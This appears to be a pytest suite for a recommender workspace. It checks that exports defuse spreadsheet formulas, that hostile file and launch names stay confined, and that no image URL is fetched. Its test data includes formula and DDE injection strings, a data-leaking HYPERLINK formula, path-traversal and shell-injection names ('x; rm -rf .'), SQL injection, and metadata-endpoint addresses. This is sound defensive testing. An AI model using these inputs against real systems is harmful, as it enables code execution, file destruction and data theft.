"""Text that a spreadsheet would run, names that a file system would follow: they leave as text, and are stored under ids."""

from __future__ import annotations

import csv
import io
import socket
import zipfile
from pathlib import Path

import pandas as pd
import pytest
from openpyxl import load_workbook
from planted import SMALL

from recsys_core.__main__ import main
from recsys_core.errors import AlreadyThere, InvalidSetting
from recsys_core.models.source_model import SourceModel
from recsys_core.run_context import RunContext
from recsys_core.tables.checking import read_table
from recsys_core.workspace import Workspace
from recsys_core.workspace.exports import recommendations_csv, safe_csv
from recsys_core.workspace.imports import Upload, check_files
from recsys_core.workspace.spreadsheet import safe_xlsx
from recsys_core.workspace.uploads import discard, spooled

FORMULAS = [
    "=1+1",
    "+1",
    "-1+1|cmd",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    '=HYPERLINK("https://example.org/?"&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "'=1+1",
    "''@x",
    '"=1+1"',
    "a\t=1+1",
    'a"\n=1+1,"=2+2',
]
RUNS = tuple("=+-@\t\r\n＝＋－＠")
HOSTILE_NAMES = [
    "../x",
    "../../../../etc/passwd",
    "/etc/passwd",
    "\\\\host\\share\\x",
    "C:\\Windows\\x",
    "CON",
    "NUL",
    "nul.csv",
    "a\0b",
    "n" * 300,
    "\u202ecsv.exe",
    "שלום עולם",
    "a/b/c.csv",
    "~/x",
    "$(touch x)",
    "x; rm -rf .",
    ".",
    "..",
    "%2e%2e%2fx",
    "x\n\ry",
    "'; DROP TABLE launches; --",
    "🍵" * 100,
]


def products() -> pd.DataFrame:
    return pd.DataFrame(
        {
            "product_id": [f"p{at}" for at in range(len(FORMULAS))],
            "title": FORMULAS,
            "tags": [[text.strip()] for text in FORMULAS],
            "price": [-1.5] * len(FORMULAS),
            "=own": FORMULAS,
        }
    )


def test_no_cell_of_a_csv_file_can_run() -> None:
    content = safe_csv(products()).decode("utf-8-sig")
    for separator in (",", ";", "\t"):  # spreadsheets choose by the country
        rows = list(csv.reader(io.StringIO(content, newline=""), delimiter=separator))
        if separator == ",":
            assert {len(row) for row in rows} == {5}
            assert [row[1].removeprefix("'") for row in rows[1:]] == FORMULAS
            assert all(row[3] == "-1.5" for row in rows[1:])
            assert not any(cell.startswith(RUNS) for row in rows for cell in (*row[:3], row[4]))


@pytest.mark.parametrize("text", FORMULAS)
def test_no_cell_of_a_workbook_can_run(text: str) -> None:
    content = safe_xlsx(pd.DataFrame({text: [text, "plain"], "tags": [[text.strip()], []]}), sheet=text)
    book = load_workbook(io.BytesIO(content))
    assert {cell.data_type for row in book.active.iter_rows() for cell in row} <= {"s", "n", "inlineStr"}
    with zipfile.ZipFile(io.BytesIO(content)) as parts:
        assert "<f" not in parts.read("xl/worksheets/sheet1.xml").decode()


@pytest.mark.parametrize("ending", ["csv", "xlsx"])
def test_what_is_exported_comes_back_as_it_was(ending: str, tmp_path: Path) -> None:
    folder, file = tmp_path / "workspace", tmp_path / f"products.{ending}"
    workspace = Workspace(folder)
    frame = products().assign(price=1.5)
    given = frame.assign(tags=[text[0] for text in frame["tags"]]).to_csv(index=False, lineterminator="\r\n")
    # As a file from elsewhere, in which a ' before a sign is a spreadsheet's, not the title's.
    given = given.replace("'=1+1", "''=1+1").replace("''@x", "'''@x").replace("=own", "'=own")
    published = check_files({"products": Upload(given.encode(), "shop.csv")}).publish(workspace)
    catalog = workspace.catalog(published.id).products
    assert catalog["title"].tolist() == FORMULAS
    workspace.close()
    arguments = ("export", "--workspace", str(folder), "--table", "products", "--out", str(file))
    assert main(list(arguments)) == 0
    again = read_table(file, "products", name=file.name)
    assert again.rejected.empty
    same = catalog.assign(tags=[list(tags) for tags in catalog["tags"]])
    pd.testing.assert_frame_equal(again.frame, same)


def test_rejected_rows_cannot_run_and_read_as_their_file_did() -> None:
    texts = [text for text in FORMULAS if text.strip() == text and "\n" not in text]
    rows = pd.DataFrame({"product_id": [f"p{at}" for at in range(len(texts))], "title": texts, "price": "x"})
    data = rows.to_csv(index=False)
    good = read_table(data.replace(",x\n", ",1\n").encode(), "products", name="shop.csv").frame
    content = safe_csv(read_table(data.encode(), "products", name="shop.csv").rejected)
    cells = [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")) for cell in row]
    assert not any(cell.startswith(RUNS) for cell in cells)
    mended = read_table(content.replace(b",x\n", b",1\n"), "products", name="mended.csv")
    pd.testing.assert_frame_equal(mended.frame, good)


def test_lists_for_programs_have_their_columns_only() -> None:
    frame = pd.DataFrame({"customer_id": ["c"], "product_id": ["p"], "rank": [1], "score": [0.5], "probability": [0.1]})
    assert (
        recommendations_csv(frame.assign(title="=1+1"))
        == b"customer_id,product_id,rank,score,probability\nc,p,1,0.5,0.1\n"
    )


@pytest.mark.parametrize("name", HOSTILE_NAMES)
def test_a_launch_of_any_name_lies_under_an_id_of_ours(name: str, tmp_path: Path) -> None:
    workspace = Workspace(tmp_path / "workspace")
    before = {path for path in tmp_path.rglob("*") if "workspace" not in path.parts[len(tmp_path.parts)]}
    frame = pd.DataFrame({"product_id": ["n"], "title": ["New"]})
    record = workspace.create_launch(name, frame)
    shown = "".join(letter for letter in name if letter.isprintable() or letter == "\u202e").strip()
    assert workspace.launch_record(record.id).name == shown
    assert workspace.load_launch(shown).product_ids.tolist() == ["n"]
    with pytest.raises(AlreadyThere):
        workspace.create_launch(name, frame)
    folders = [path.name for path in (tmp_path / "workspace" / "launches").iterdir()]
    assert folders == [record.id]
    assert record.id.isalnum()
    assert {path for path in tmp_path.iterdir() if path.name != "workspace"} == before
    workspace.delete_launch(record.id)
    workspace.close()


@pytest.mark.parametrize("name", ["", " ", "\0", "\n\t", "\ud800"])
def test_a_launch_without_a_name_is_refused(name: str, tmp_path: Path) -> None:
    workspace = Workspace(tmp_path)
    with pytest.raises(InvalidSetting):
        workspace.create_launch(name, pd.DataFrame({"product_id": ["n"], "title": ["New"]}))
    workspace.close()


@pytest.mark.parametrize("name", [name for name in HOSTILE_NAMES if "\0" not in name])
def test_a_launch_of_any_name_through_the_shell(name: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    file = tmp_path / "new.csv"
    file.write_text("product_id,title\nn,New\n")
    code = main(["launch", "--workspace", str(tmp_path / "w"), "--name", name, "--products", str(file)])
    said = capsys.readouterr()
    assert code == 2  # there is no catalog yet
    assert len(said.err.splitlines()) == 1
    assert sorted(path.name for path in tmp_path.iterdir()) == ["new.csv", "w"]


@pytest.mark.parametrize("name", HOSTILE_NAMES)
def test_a_file_of_any_name_waits_under_an_id_of_ours(name: str, tmp_path: Path) -> None:
    workspace = Workspace(tmp_path / "workspace")
    upload = spooled(workspace, io.BytesIO(b"product_id,title\nA,a\n"), name)
    assert isinstance(upload.source, Path)
    assert upload.source.parent == workspace.uploads_folder
    assert upload.source.name.isalnum()
    assert upload.name == name
    assert [path.name for path in tmp_path.iterdir()] == ["workspace"]
    checked = check_files({"products": upload})
    version = checked.publish(workspace)
    assert version.files[0]["name"] == name
    discard(upload)
    assert list(workspace.uploads_folder.iterdir()) == []
    workspace.close()


def test_nothing_opens_a_picture_or_any_other_address(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, supporter_shop: tuple
) -> None:
    asked: list[object] = []

    def refuse(*arguments: object, **_: object) -> None:
        asked.append(arguments)
        raise OSError("nothing may be fetched")

    for name in ("connect", "connect_ex", "sendto"):
        monkeypatch.setattr(socket.socket, name, refuse)
    monkeypatch.setattr(socket, "getaddrinfo", refuse)
    secret = tmp_path / "secret.png"
    secret.write_text("secret")
    addresses = [
        secret.as_uri(),
        "http://127.0.0.1:1/x.png",
        "http://169.254.169.254/latest/meta-data",
        "https://example.org/1GB.png",
        "ftp://example.org/x.png",
        "javascript:alert(1)",
        "data:image/png;base64,AAAA",
        "\\\\host\\share\\x.png",
    ]
    shop = supporter_shop[0]
    frame = shop.products.assign(
        image_url=[addresses[at % len(addresses)] for at in range(len(shop.products))],
        description=[f"![x]({addresses[at % len(addresses)]})" for at in range(len(shop.products))],
    )
    workspace = Workspace(tmp_path / "workspace")
    files = {
        "products": Upload(frame.to_csv(index=False).encode(), "p.csv"),
        "interactions": Upload(shop.interactions.to_csv(index=False).encode(), "i.csv"),
    }
    catalog = workspace.catalog(check_files(files).publish(workspace).id)
    assert catalog.products["image_url"].tolist() == frame["image_url"].tolist()
    SourceModel(SMALL).fit(catalog, run=RunContext())
    assert safe_xlsx(catalog.products)
    workspace.close()
    assert asked == []
